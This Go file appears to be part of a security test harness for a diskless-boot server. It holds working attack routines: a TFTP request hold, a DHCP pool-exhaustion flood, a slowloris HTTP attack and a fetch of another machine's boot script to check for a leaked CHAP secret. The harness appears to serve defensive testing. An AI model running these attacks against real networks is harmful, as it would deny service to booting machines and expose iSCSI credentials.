//go:build linux

package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/diskless-boot/diskless/bench/harness"
)

// tftpHold sends the read requests of the issue: undionly.kpxe with
// timeout=255 (RFC 2349's largest) and blksize 1468, each from its own
// socket, and never ACKs. The sockets stay open (a closed one would answer
// the server's retransmissions with ICMP port unreachable and end the
// transfer). The first answer of each is classified: OACK, DATA, ERROR
// or none within 3 s.
func tftpHold(ctx context.Context, a *attacker) {
	n := a.sz.tftpRequests
	var wg sync.WaitGroup
	var answered atomic.Int64
	server := &net.UDPAddr{IP: net.ParseIP(a.site.Server), Port: 69}
	rrq := []byte{0, 1}
	for _, s := range []string{"undionly.kpxe", "octet", "blksize", "1468", "tsize", "0", "timeout", "255"} {
		rrq = append(append(rrq, s...), 0)
	}
	for i := range n {
		conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: a.addrs[i%len(a.addrs)].AsSlice()})
		if err != nil {
			a.count("sockets failed", 1)
			a.note("socket: %v", err)
			answered.Add(1)
			continue
		}
		if _, err := conn.WriteToUDP(rrq, server); err != nil {
			a.count("requests failed", 1)
			a.note("send: %v", err)
		} else {
			a.count("requests sent", 1)
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			defer conn.Close()
			stop := context.AfterFunc(ctx, func() { conn.Close() })
			defer stop()
			buf := make([]byte, 2048)
			conn.SetReadDeadline(time.Now().Add(3 * time.Second))
			for first := true; ; first = false {
				k, _, err := conn.ReadFromUDP(buf)
				if first {
					answered.Add(1)
					switch {
					case err != nil && ctx.Err() == nil:
						a.count("no answer within 3 s", 1)
					case err == nil && k >= 2:
						a.count("first answer: "+tftpKind(buf[:k]), 1)
					}
					conn.SetReadDeadline(time.Time{})
				}
				if err != nil {
					if ctx.Err() != nil {
						return
					}
					continue // the 3 s deadline: keep holding
				}
				if k < 4 {
					continue
				}
				switch binary.BigEndian.Uint16(buf) {
				case 6:
					if first {
						opts := strings.Split(string(bytes.TrimRight(buf[2:k], "\x00")), "\x00")
						for j := 0; j+1 < len(opts); j += 2 {
							if strings.EqualFold(opts[j], "timeout") {
								a.count("OACKs granting timeout="+opts[j+1], 1)
							}
						}
					} else {
						a.count("retransmissions received", 1)
					}
				case 3:
					if !first {
						a.count("retransmissions received", 1)
					}
				case 5:
					a.count("ERRORs received", 1)
					a.note("ERROR %d %q", binary.BigEndian.Uint16(buf[2:]), bytes.TrimRight(buf[4:k], "\x00"))
				}
			}
		}()
		if i%100 == 99 {
			sleepCtx(ctx, 100*time.Millisecond) // about 1000 requests a second
		}
	}
	go func() {
		for answered.Load() < int64(n) && ctx.Err() == nil {
			time.Sleep(50 * time.Millisecond)
		}
		a.ready("requests=%d", n)
	}()
	<-ctx.Done()
	wg.Wait()
}

func tftpKind(p []byte) string {
	switch binary.BigEndian.Uint16(p) {
	case 6:
		return "OACK (transfer started)"
	case 3:
		return "DATA (options ignored)"
	case 5:
		return "ERROR (refused)"
	}
	return fmt.Sprintf("opcode %d", binary.BigEndian.Uint16(p))
}

// dhcpFlood broadcasts -dhcp-packets client messages at an even rate over
// the attack's duration, from random MACs: half DISCOVERs (every OFFER is
// then REQUESTed, binding a lease the way a real client would) and half
// REQUESTs in INIT-REBOOT form for a random pool address (no OFFER
// before: RFC 2131 4.3.2 says a server with no record stays silent).
func dhcpFlood(ctx context.Context, a *attacker) {
	type pending struct {
		mac     net.HardwareAddr
		uuid    []byte
		kind    byte // 'd' DISCOVER sent, 's' REQUEST after an OFFER, 'b' blind REQUEST
		created time.Time
	}
	var mu sync.Mutex
	clients := map[uint32]*pending{}
	var d *harness.DHCPConn
	onReply := func(b []byte) {
		r, ok := harness.ParseDHCPReply(b)
		if !ok {
			return
		}
		xid := binary.BigEndian.Uint32(b[4:])
		mu.Lock()
		c := clients[xid]
		var kind byte
		if c != nil {
			kind = c.kind
			if r.Type == harness.DHCPOffer && kind == 'd' {
				c.kind = 's'
			}
		}
		mu.Unlock()
		if c == nil {
			a.count("replies to others", 1) // e.g. to the machine booting
			return
		}
		switch r.Type {
		case harness.DHCPOffer:
			a.count("OFFERs", 1)
			if kind == 'd' {
				if err := d.Send(harness.BuildDHCP(harness.DHCPRequest, xid, c.mac, c.uuid, r.YIAddr, r.ServerID)); err == nil {
					a.count("REQUESTs after an OFFER", 1)
				}
			}
		case harness.DHCPAck:
			if kind == 'b' {
				a.count("ACKs of blind REQUESTs (lease bound without an OFFER)", 1)
			} else {
				a.count("ACKs of REQUESTs after an OFFER (lease bound)", 1)
			}
		case harness.DHCPNak:
			a.count("NAKs", 1)
		}
	}
	var err error
	d, err = harness.ListenDHCP(a.iface, onReply)
	if err != nil {
		a.note("listen: %v", err)
		a.ready("failed")
		<-ctx.Done()
		return
	}
	defer d.Close()
	first, last := netip.MustParseAddr(a.site.PoolFrst).As4(), netip.MustParseAddr(a.site.PoolLast).As4()
	lo, hi := binary.BigEndian.Uint32(first[:]), binary.BigEndian.Uint32(last[:])
	total := a.sz.dhcpPackets
	rate := float64(total) / a.duration.Seconds()
	start := time.Now()
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	sent := 0
	swept := start
	for sent < total {
		select {
		case <-ctx.Done():
			a.note("stopped after %d of %d messages", sent, total)
			return
		case <-tick.C:
		}
		due := min(int(rate*time.Since(start).Seconds()), total)
		for ; sent < due; sent++ {
			var rnd [4 + 16 + 5 + 4]byte
			rand.Read(rnd[:])
			xid := binary.BigEndian.Uint32(rnd[:4])
			c := &pending{mac: net.HardwareAddr{0x02, rnd[20], rnd[21], rnd[22], rnd[23], rnd[24]}, uuid: rnd[4:20], created: time.Now()}
			var pkt []byte
			if sent%2 == 0 {
				c.kind = 'd'
				pkt = harness.BuildDHCP(harness.DHCPDiscover, xid, c.mac, c.uuid, netip.Addr{}, netip.Addr{})
			} else {
				c.kind = 'b'
				var ip [4]byte
				binary.BigEndian.PutUint32(ip[:], lo+binary.BigEndian.Uint32(rnd[25:])%(hi-lo+1))
				pkt = harness.BuildDHCP(harness.DHCPRequest, xid, c.mac, c.uuid, netip.AddrFrom4(ip), netip.Addr{})
			}
			mu.Lock()
			clients[xid] = c
			mu.Unlock()
			if err := d.Send(pkt); err != nil {
				a.count("send errors", 1)
				a.note("send: %v", err)
				continue
			}
			if c.kind == 'd' {
				a.count("DISCOVERs", 1)
			} else {
				a.count("blind REQUESTs", 1)
			}
		}
		if time.Since(start) > 2*time.Second {
			a.ready("rate=%.0f/s", rate)
		}
		if time.Since(swept) > 5*time.Second { // forget old clients
			swept = time.Now()
			mu.Lock()
			for x, c := range clients {
				if time.Since(c.created) > 30*time.Second {
					delete(clients, x)
				}
			}
			mu.Unlock()
		}
	}
	a.ready("rate=%.0f/s", rate)
	a.note("all %d messages sent after %.1f s", total, time.Since(start).Seconds())
	<-ctx.Done() // late answers still count
}

// slowloris keeps -slowloris-conns HTTP connections sending a request for
// a boot script a byte at a time, then endless header lines; one the
// server closes is opened again after a backoff.
func slowloris(ctx context.Context, a *attacker) {
	var wg sync.WaitGroup
	var held, started atomic.Int64
	n := a.sz.slowloris
	addr := a.site.Server + ":8080"
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			local := a.addrs[i%len(a.addrs)]
			head := fmt.Sprintf("GET /boot.ipxe?mac=02:66:00:00:%02x:%02x HTTP/1.1\r\nHost: %s\r\nUser-Agent: iPXE/1.21.1\r\n", i>>8&0xff, i&0xff, addr)
			var b backoff
			for first := true; ctx.Err() == nil; first = false {
				c, err := dialTCP(ctx, local, addr)
				if first && started.Add(1) == int64(n) {
					go func() {
						if sleepCtx(ctx, 2*time.Second) {
							a.set("held when in place", held.Load())
							a.ready("held=%d", held.Load())
						}
					}()
				}
				if err != nil {
					if ctx.Err() == nil {
						a.count("connects failed", 1)
						a.note("connect: %v", err)
					}
					if !b.wait(ctx, 0) {
						return
					}
					continue
				}
				a.count("connections opened", 1)
				a.gauge("held at most", held.Add(1))
				start := time.Now()
				answered := make(chan string, 1)
				closed := make(chan bool, 1)
				go func() {
					var status string
					closed <- holdOpen(ctx, c, func(p []byte) {
						if status == "" {
							status, _, _ = strings.Cut(string(p), "\r\n")
							answered <- status
						}
					})
				}()
				sent := 0
				t := time.NewTicker(a.sz.slowlorisEvery)
				var ok bool
			send:
				for {
					select {
					case ok = <-closed:
						break send
					case s := <-answered:
						a.count("answered: "+s, 1)
					case <-t.C:
						var ch byte
						if sent < len(head) {
							ch = head[sent]
						} else {
							ch = "X-Pad: a\r\n"[(sent-len(head))%10]
						}
						sent++
						c.SetWriteDeadline(time.Now().Add(5 * time.Second))
						if _, err := c.Write([]byte{ch}); err != nil {
							c.Close()
						}
					}
				}
				t.Stop()
				if !ok {
					return
				}
				held.Add(-1)
				life := time.Since(start)
				a.count(closeKind(life), 1)
				a.sample("connections the server closed (held)", life)
				if !b.wait(ctx, life) {
					return
				}
			}
		}()
	}
	<-ctx.Done()
	a.set("held at the end", held.Load())
	wg.Wait()
}

// fetchScript asks for pc1's iPXE script by its MAC from an attacker
// address, as the first attack does. It returns pc1's CHAP secret
// when the script carries it.
func fetchScript(ctx context.Context, a *attacker, local netip.Addr) string {
	tr := &http.Transport{DisableKeepAlives: true, DialContext: (&net.Dialer{
		LocalAddr: &net.TCPAddr{IP: local.AsSlice()}, Timeout: 5 * time.Second}).DialContext}
	hc := &http.Client{Transport: tr, Timeout: 5 * time.Second}
	req, _ := http.NewRequestWithContext(ctx, "GET", fmt.Sprintf("http://%s:8080/boot.ipxe?mac=%s", a.site.Server, a.site.Boot.MAC), nil)
	req.Header.Set("User-Agent", "iPXE/1.21.1")
	resp, err := hc.Do(req)
	if err != nil {
		if ctx.Err() == nil {
			a.count("script fetch errors", 1)
			a.note("script: %v", err)
		}
		return ""
	}
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	resp.Body.Close()
	a.count(fmt.Sprintf("pc1's script fetched from an attacker address: %d", resp.StatusCode), 1)
	sc := bufio.NewScanner(bytes.NewReader(body))
	for sc.Scan() {
		if strings.Contains(sc.Text(), a.site.Boot.InitiatorIQN) {
			a.count("scripts naming pc1's initiator", 1)
			break
		}
	}
	if s := a.site.Boot.CHAPSecret; s != "" && bytes.Contains(body, []byte(s)) {
		a.breach("pc1's script, fetched by its MAC from an attacker address, carried its CHAP secret")
		return s
	}
	return ""
}
